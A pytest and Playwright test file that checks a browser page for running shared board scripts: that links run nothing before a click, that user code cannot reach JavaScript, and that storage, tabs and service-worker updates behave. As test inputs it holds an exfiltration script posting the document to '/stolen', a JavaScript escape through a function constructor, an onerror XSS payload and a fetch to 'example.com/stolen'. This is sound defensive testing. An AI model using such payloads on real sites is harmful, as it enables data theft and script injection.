"""The page is safe to open: links, what a text can reach, new versions, two tabs.

Everything here is tried on a static host that sends no headers, as most do.
"""

import hashlib
import json
import re
import shutil
from pathlib import Path

import pytest

from plantar.firmware import firmware_dir
from plantar.web import command as web

pytest.importorskip("playwright", reason="Playwright is not installed: run make setup")
pytest.register_assert_rewrite("webpage")

from webpage import BareHandler, Visit, fragment, visiting  # noqa: E402

pytest_plugins = ("webpage",)

CALLS_OUT = 'BOARD = "pico"\nimport js\njs.fetch("/stolen?" + str(js.document))\n'
CALLS_OUT_BY_FFI = (
    'BOARD = "pico"\nimport jsffi\njsffi.to_js([1]).constructor("fetch(`/stolen`)")()\n'
)
LOOPS = "while True:\n    pass\n"
MARKUP = """{"version": 1, "key": "bad", "title": "<img src=x onerror=alert(1)>", "level": 2,
  "phases": [{"kind": "drive", "name": "<b>bold</b>", "seconds": 120}]}
"""
MINE = 'BOARD = "pico2"  # mine\n'
THEIRS = 'BOARD = "esp32"  # theirs\n'
SPIES = """
  window.asked = [];
  const post = Worker.prototype.postMessage;
  Worker.prototype.postMessage = function (order, ...more) {
    window.asked.push(JSON.stringify([order.call, order.kind, order.values, order.own]));
    return post.call(this, order, ...more);
  };
"""
"""Notes what the page asks its workers for: to check or to run a text is to ask one."""


@pytest.fixture
def bare(browser, bare_url):
    """A visit of a host without headers; nothing may leave it."""
    with visiting(browser, bare_url, SPIES) as visit:
        yield visit
        assert visit.complaints == []
        assert visit.outside == []
        assert not [address for address in visit.requested if "stolen" in address]


def handed_over(visit: Visit, text: str) -> bool:
    """Whether any interpreter was given the text."""
    given = visit.page.evaluate("() => window.asked")
    assert given  # the board at least
    return any(json.dumps(text, ensure_ascii=False)[1:-1] in each for each in given)


def stored(visit: Visit) -> dict[str, str]:
    return visit.page.evaluate("() => ({...localStorage})")


@pytest.mark.parametrize(
    ("kind", "text"),
    [("board", CALLS_OUT), ("board", LOOPS), ("routine", MARKUP), ("board", "# " + "x" * 60_000)],
)
def test_a_link_runs_nothing_and_keeps_nothing_before_a_click(bare, kind, text):
    bare.open(fragment(kind, text))
    bare.page.wait_for_selector("#guest")
    bare.until("#guest", "Nothing of it has run")
    assert bare.page.inner_text("#guest pre").strip() == text.strip()
    assert bare.page.locator("#guest img, #guest b").count() == 0
    # Long enough for anything that would run by itself: the board has played seconds meanwhile.
    bare.page.click("#tab-simulator")
    bare.until("#state", "Ready")
    bare.page.click("#press-start")
    bare.until("#state", "gentle for another 0:5")
    assert not handed_over(bare, text)
    assert stored(bare) == {}


def test_a_link_of_ten_megabytes_is_one_sentence_and_nothing_runs(bare):
    bare.open(fragment("board", "#" * 10_000_000))
    bare.until("#problem", "This link is broken")
    bare.until("#state", "Ready")
    assert stored(bare) == {} and not handed_over(bare, "####")


@pytest.mark.parametrize(("text", "module"), [(CALLS_OUT, "js"), (CALLS_OUT_BY_FFI, "jsffi")])
def test_what_a_person_runs_reaches_no_javascript(bare, text, module):
    missing = f"no module named '{module}'"
    bare.open(fragment("board", text))
    bare.page.click("#guest-run")
    bare.until("#guest-mistakes", missing)
    # The same as a text of one's own, and behind a test for being run on the board only.
    bare.edit()
    bare.write("board", text)
    bare.until("#edit-board-mistakes", missing)
    assert bare.page.is_disabled("#run-board")
    sly = f"import sys\nif '/virtual' in sys.path:\n    import {module}\n"
    bare.write("board", 'BOARD = "pico"\n' + sly)
    bare.page.wait_for_selector("#run-board:not(:disabled)")
    bare.page.click("#run-board")
    bare.until("#state", missing)
    assert not [address for address in bare.requested if "stolen" in address]


def test_a_worker_has_the_pages_policy_on_a_host_without_headers(bare):
    bare.open()
    worker = bare.page.workers[0]
    refused = worker.evaluate(
        """() => new Promise((resolve) => {
          self.addEventListener("securitypolicyviolation", (event) =>
            resolve(event.effectiveDirective));
          fetch("https://example.com/stolen").then(() => resolve("it went out"), () => undefined);
        })"""
    )
    assert refused == "connect-src"
    bare.complaints.clear()


def test_a_links_text_and_ones_own_are_both_kept_and_the_page_asks(bare):
    bare.open()
    bare.edit()
    bare.write("board", MINE)
    bare.page.goto("about:blank")
    bare.open(fragment("board", THEIRS))
    bare.page.wait_for_selector("#guest")
    assert bare.kept("board") == MINE
    # What is typed with the link in the address is there after a reload.
    bare.edit()
    bare.write("board", MINE + "# more\n")
    bare.page.reload()
    bare.page.wait_for_selector("#guest")
    assert bare.kept("board") == MINE + "# more\n"
    bare.page.click("#guest-keep")
    bare.page.click("#question-answers >> text=Leave mine")
    assert bare.kept("board") == MINE + "# more\n"
    bare.page.click("#guest-keep")
    bare.page.click("#question-answers >> text=Keep it as mine")
    bare.page.wait_for_selector("#guest", state="hidden")
    assert bare.kept("board") == THEIRS
    assert "#" not in bare.page.url
    bare.page.reload()
    bare.edit()
    bare.page.click("#earlier-board")
    assert bare.kept("board") == MINE + "# more\n"
    bare.page.click("#earlier-board")
    assert bare.kept("board") == THEIRS


def test_a_link_is_put_away_and_gone(bare):
    bare.open(fragment("routine", MARKUP))
    bare.page.click("#guest-check")
    bare.page.wait_for_selector("#guest-said:has-text('It has no mistake.'), #guest-mistakes li")
    assert bare.page.locator("#guest img").count() == 0
    bare.page.click("#guest-leave")
    assert bare.page.locator("#guest").count() == 0
    bare.page.reload()
    bare.page.wait_for_selector("html[data-ready]")
    assert "#" not in bare.page.url and stored(bare) == {}


def test_begin_again_asks_stays_and_can_be_undone(bare):
    default = (firmware_dir() / "board.py").read_text()
    bare.open()
    bare.edit()
    bare.write("board", MINE)
    bare.page.click("#back-board")
    bare.page.click("#question-answers >> text=Leave it")
    assert bare.kept("board") == MINE
    bare.page.click("#back-board")
    bare.page.click("#question-answers >> text=Begin again")
    bare.page.reload()
    bare.edit()
    bare.shows("board", default.splitlines()[0])
    assert bare.kept("board") is None
    bare.page.click("#earlier-board")
    assert bare.kept("board") == MINE


def test_two_tabs_lose_nothing_of_each_other(bare):
    bare.open()
    bare.edit()
    other = Visit(bare.context.new_page(), bare.context, bare.url)
    other.open()
    other.edit()
    other.write("board", MINE)
    # The first tab has typed nothing: it takes what the other one has.
    bare.shows("board", "# mine")
    # Both wrote, and this one had not heard of the other's: what gives way is set aside.
    bare.page.evaluate("(text) => localStorage.setItem('plantar-edit-board', text)", THEIRS)
    bare.write("board", MINE + "# and more\n")
    assert bare.kept("board") == MINE + "# and more\n"
    bare.page.click("#earlier-board")
    assert bare.kept("board") == THEIRS


# New versions.


def deploy(folder: Path, word: str) -> None:
    """Put another version of the page there: another title, and other names of files."""
    page, worker = folder / "index.html", folder / "sw.js"
    text = page.read_text().replace("Plantar</h1>", f"{word}</h1>")
    script = next((folder / "assets").glob("index-*.js"))
    renamed = script.with_name(f"index-{word}.js")
    script.rename(renamed)
    text = text.replace(script.name, renamed.name)
    text = re.sub(r'name="build" content="\w+"', f'name="build" content="{word}"', text)
    old = hashlib.sha256(page.read_bytes()).hexdigest()
    page.write_text(text)
    sw = worker.read_text().replace(old, hashlib.sha256(text.encode()).hexdigest())
    sw = sw.replace(script.name, renamed.name)
    worker.write_text(re.sub(r'"[0-9a-f]{16}"', f'"{word}"', sw))


@pytest.fixture
def site(dist, tmp_path):
    """A folder with the page, to be deployed to anew, and its server."""
    folder = tmp_path / "site"
    shutil.copytree(dist, folder)
    with web.serving(web.make_server(0, folder, BareHandler)) as url:
        yield folder, url


def settled(visit: Visit) -> None:
    visit.page.evaluate("navigator.serviceWorker.ready.then(() => true)")


def test_a_new_version_waits_until_the_person_reloads(browser, site):
    folder, url = site
    # A name that is not this machine's own, as a host on the network has; browsers trust it too.
    url = url.replace("127.0.0.1", "page.localhost")
    with visiting(browser, url, service_workers="allow") as first:
        first.open()
        settled(first)
        foreign = ["plantar-x", "plantar https://else.where/ 1"]
        opens = "(names) => Promise.all(names.map((name) => caches.open(name))).then(() => 1)"
        first.page.evaluate(opens, foreign)
        first.page.reload()
        first.page.wait_for_selector("html[data-ready]")
        second = Visit(first.context.new_page(), first.context, url)
        second.open()
        deploy(folder, "newer")
        assert not first.page.is_visible("#update")
        update = "navigator.serviceWorker.getRegistration().then((r) => r.update()).then(() => 1)"
        first.page.evaluate(update)
        first.until("#update", "A new version is here: Reload")
        # Until then the old one is whole, also for who opens it now: half-new is never served.
        second.page.reload()
        second.page.wait_for_selector("html[data-ready]")
        assert second.text("h1") == "Plantar"
        first.page.click("#update-reload")
        first.until("h1", "newer")
        first.page.wait_for_selector("html[data-ready]")
        # The other tab goes on with what it has, and says so.
        second.until("#update", "A new version is here: Reload")
        second.page.click("#restart")
        second.until("#state", "Ready")
        second.page.click("#update-reload")
        second.until("h1", "newer")
        names = second.page.evaluate("() => caches.keys()")
        assert set(foreign) <= set(names)


def test_half_a_new_version_is_never_taken(browser, site):
    folder, url = site
    url = url.replace("127.0.0.1", "page.localhost")
    with visiting(browser, url, service_workers="allow") as visit:
        visit.open()
        settled(visit)
        old = (folder / "index.html").read_bytes()
        deploy(folder, "newer")
        (folder / "index.html").write_bytes(old)
        update = "navigator.serviceWorker.getRegistration().then((r) => r.update()).then(() => 1)"
        visit.page.evaluate(f"() => {update}.catch(() => 0)")
        gone = """() => navigator.serviceWorker.getRegistration()
            .then((known) => !known.installing && !known.waiting)"""
        visit.page.wait_for_function(gone)
        visit.page.reload()
        visit.page.wait_for_selector("html[data-ready]")
        visit.until("#state", "Ready")
        assert visit.text("h1") == "Plantar" and not visit.page.is_visible("#update")


def test_served_from_this_machine_an_edit_is_seen_at_once(browser, site):
    folder, url = site
    with visiting(browser, url, service_workers="allow") as visit:
        visit.open()
        settled(visit)
        deploy(folder, "edited")
        visit.page.reload()
        visit.until("h1", "edited")
        visit.page.wait_for_selector("html[data-ready]")
